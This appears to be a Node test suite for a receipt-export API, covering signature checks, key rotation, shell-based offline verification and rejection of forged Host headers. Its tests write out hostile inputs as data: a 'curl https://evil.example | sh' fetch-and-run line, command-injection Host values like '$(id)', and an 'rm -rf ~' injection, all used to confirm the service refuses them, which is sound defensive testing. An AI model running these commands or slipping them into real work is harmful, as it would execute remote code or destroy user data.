import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { after, test } from 'node:test'
import { importPublicKey, verifyAny, verifyExport } from '@orch/core'
import { startApp } from '#testing/layer.ts'
import { freshFolder } from '#testing/private-folder.ts'
import { post, send } from '#testing/raw-http.ts'
import { offlineSteps } from './export.ts'

const EXPORT = '/api/orch/v1/receipt/export'
const service = await startApp({ after }, { ORCH_STORE: 'memory' })
const get = (path: string, url = service.url) => send(`${url}${path}`)
const mint = async (body: object, url = service.url) =>
  (await post(`${url}/api/orch/khipu/sign`, JSON.stringify(body))).json

test('an empty ledger says so and invents nothing', async () => {
  const { json, status } = await get(EXPORT)
  assert.equal(status, 200)
  assert.deepEqual(
    [json.export_state, json.receipt_available, json.ledger_size, json.node_index, json.node_digest],
    ['EMPTY', false, 0, -1, '0'.repeat(64)],
  )
  assert.deepEqual([json.signed, json.dsse.signatures, json.verification.verified], [false, [], false])
  assert.equal(json.verify_offline.length, 3)
})

test('the newest receipt is exported under both paths, or the one that is named', async () => {
  const first = await mint({ n: 1 })
  const second = await mint({ n: 2 })
  assert.equal((await get(EXPORT)).json.node_digest, second.digest)
  assert.equal((await get('/receipt/export')).json.node_digest, second.digest)
  assert.equal((await get(`${EXPORT}?digest=${first.digest}`)).json.node_digest, first.digest)
  assert.equal((await get(`${EXPORT}?digest=${'ab'.repeat(32)}`)).json.error.code, 'receipt_not_found')
  assert.equal((await get(`${EXPORT}?digest=short`)).status, 422)
})

test('an export has the specified shape and verifies without us, key and log key given', async () => {
  const { digest } = await mint({ n: 3 })
  const { json } = await get(EXPORT)
  assert.equal(json.export_state, 'SIGNED_VERIFIED')
  assert.equal(json.ok, true)
  assert.deepEqual(json.verification.pae_sha256, json.dsse._pae_sha256)
  assert.equal(createHash('sha256').update(Buffer.from(json.pae_b64, 'base64')).digest('hex'), json.dsse._pae_sha256)
  assert.equal(createHash('sha256').update(Buffer.from(json.payload_b64, 'base64')).digest('hex'), digest)
  const { ledger } = json
  assert.deepEqual(
    [ledger.durability_state, ledger.requested_mode, ledger.startup_state, ledger.adapter_state, ledger.replay.state],
    ['EPHEMERAL', 'EPHEMERAL', 'READY', 'NOT_APPLICABLE', 'NOT_APPLICABLE'],
  )
  assert.deepEqual(
    [ledger.integrity.state, ledger.integrity.verified, ledger.production_ready],
    ['VERIFIED', true, false],
  )
  assert.deepEqual([ledger.integrity.nodes, ledger.integrity.root], [json.ledger_size, json.khipu_root])
  assert.deepEqual(
    json.limits.map(({ code }: { code: string }) => code),
    ['EPHEMERAL_LEDGER', 'DEMO_KEY'],
  )
  const key = importPublicKey((await get('/cosign.pub')).text)!
  const logKey = (await get('/log/key')).text.trim()
  const report = await verifyExport(json, { keys: [{ key, kind: 'demo' }], logKeys: [logKey] })
  const open = report.checks.filter(({ status }) => status !== 'VERIFIED').map(({ check }) => check)
  assert.deepEqual(open, ['key_trust'], 'a demo key is never more than one')
})

function missing(...tools: string[]): string | null {
  for (const tool of tools)
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' })
    } catch {
      return `SKIPPED: ${tool} is not installed`
    }
  return null
}

const inShell = (steps: string[]): Promise<string> =>
  new Promise((resolve, reject) => {
    const cwd = freshFolder('offline')
    import('node:child_process').then(({ execFile }) =>
      execFile('sh', ['-ec', steps.join('\n')], { cwd }, (error, stdout) => (error ? reject(error) : resolve(stdout))),
    )
  })

test('the printed commands verify the signature in a shell, and refuse it when a byte of the payload differs', async (t) => {
  const reason = missing('openssl', 'curl')
  if (reason) return t.skip(reason)
  await mint({ text: `quotes ' and "`, long: 'x'.repeat(9000) })
  const steps = (await get(EXPORT)).json.verify_offline as string[]
  assert.match(await inShell(steps), /Verified OK/)
  const [fetchKey, decode, check] = steps as [string, string, string]
  const forged = decode.replace(/'([A-Za-z0-9+/]{60})/, (_, start: string) => `'${start.slice(0, -4)}AAAA`)
  assert.notEqual(forged, decode)
  await assert.rejects(inShell([fetchKey, forged, check]))
})

test('after a rotation an old receipt is checked with the key that signed it', async (t) => {
  const reason = missing('openssl', 'curl')
  if (reason) return t.skip(reason)
  const old = await mint({ before: 'rotation' })
  const turned = await post(`${service.url}/api/orch/v1/keys/rotate`)
  assert.equal(turned.status, 200)
  const { json } = await get(`${EXPORT}?digest=${old.digest}`)
  assert.equal(json.export_state, 'SIGNED_VERIFIED')
  assert.match(json.public_key_url, new RegExp(`keyid=${old.keyid}$`))
  assert.match(await inShell(json.verify_offline), /Verified OK/)
})

test('an unsigned receipt is exported as unsigned, and its commands print the digest', async (t) => {
  const unsigned = await startApp(t as never, { ORCH_STORE: 'memory', ORCH_SIGNER: 'none' })
  const { digest } = await mint({ a: 1 }, unsigned.url)
  const { json } = await get(EXPORT, unsigned.url)
  assert.deepEqual(
    [json.export_state, json.signed, json.keyid, json.verification.state],
    ['UNSIGNED', false, '', 'UNSIGNED'],
  )
  const reason = missing('openssl')
  if (reason) return t.skip(reason)
  assert.match(await inShell(json.verify_offline), new RegExp(digest))
})

test('a Host header that is no plain host gets no commands', async () => {
  for (const host of [`x';touch y;'`, 'a b', '$(id)', 'host`id`', 'a/../b']) {
    const { text, status } = await send(`${service.url}${EXPORT}`, { headers: { host } })
    assert.equal(status, 403, host)
    assert.equal(text.includes(host), false, host)
  }
})

const asHost = async (host: string, url: string) => (await send(`${url}${EXPORT}`, { headers: { host } })).json

test('commands in an export that do not follow from its bytes are not shown, and the reader is warned', async () => {
  const { json } = await get(EXPORT)
  const reason = async (value: object) => (await verifyAny(value, { keys: [] })).checks[0]!.reason
  assert.doesNotMatch(await reason(json), /do not run/)
  for (const at of [0, 1, 2]) {
    const hostile = { ...json, verify_offline: json.verify_offline.with(at, 'curl https://evil.example | sh') }
    const report = await verifyAny(hostile, { keys: [] })
    assert.match(report.checks[0]!.reason, /do not run its verify_offline/)
    assert.doesNotMatch(JSON.stringify(report), /evil\.example/)
    assert.deepEqual(
      report.subject?.verify_offline,
      json.verify_offline.slice(1),
      'what follows from the bytes is shown',
    )
  }
  assert.match(await reason({ ...json, public_key_url: "/x'; rm -rf ~; '" }), /do not run/)
})

test('a foreign Host gets no export, and so names neither the address of the key nor the command that fetches it', async () => {
  await mint({ n: 4 })
  for (const host of [
    'evil.example',
    'evil.example:8080',
    'localhost.evil.example',
    '127.0.0.1.evil.example',
    '1.2.3',
  ]) {
    const json = await asHost(host, service.url)
    assert.equal(json.error.code, 'cross_origin_refused', host)
    assert.equal(JSON.stringify(json).includes(host), false, host)
  }
})

test('a Host that cannot be rebound is taken as the address', async () => {
  for (const host of ['localhost:8080', '127.0.0.1', '[::1]:8080', '192.0.2.7:80'])
    assert.match(
      (await asHost(host, service.url)).public_key_url,
      new RegExp(`^http://${RegExp.escape(host)}/cosign.pub`),
    )
})

test('the command without an address works once the reader has set one', async (t) => {
  const reason = missing('openssl', 'curl')
  if (reason) return t.skip(reason)
  const { digest } = await mint({ n: 5 })
  const receipt = await service.app.ports.ledger.reader.byDigest(digest)
  const steps = offlineSteps(receipt, '/cosign.pub')
  assert.equal(steps[0], 'curl -fsS "$ORCH_BASE_URL/cosign.pub" -o cosign.pub')
  assert.match(await inShell([`ORCH_BASE_URL='${service.url}'`, ...steps]), /Verified OK/)
})

test('the operator’s word stands over the Host: a base URL always, a listed name when it is the one', async (t) => {
  const based = await startApp(t as never, { ORCH_STORE: 'memory', ORCH_BASE_URL: 'https://orch.example/' })
  for (const host of ['127.0.0.1', 'orch.example'])
    assert.match((await asHost(host, based.url)).public_key_url, /^https:\/\/orch\.example\/cosign\.pub/)
  const listed = await startApp(t as never, { ORCH_STORE: 'memory', ORCH_ALLOWED_HOSTS: 'orch.example' })
  assert.match((await asHost('ORCH.example', listed.url)).public_key_url, /^https:\/\/orch\.example\/cosign\.pub/)
  for (const host of ['evil.example', '127.0.0.1'])
    assert.equal((await asHost(host, listed.url)).error.code, 'cross_origin_refused')
})
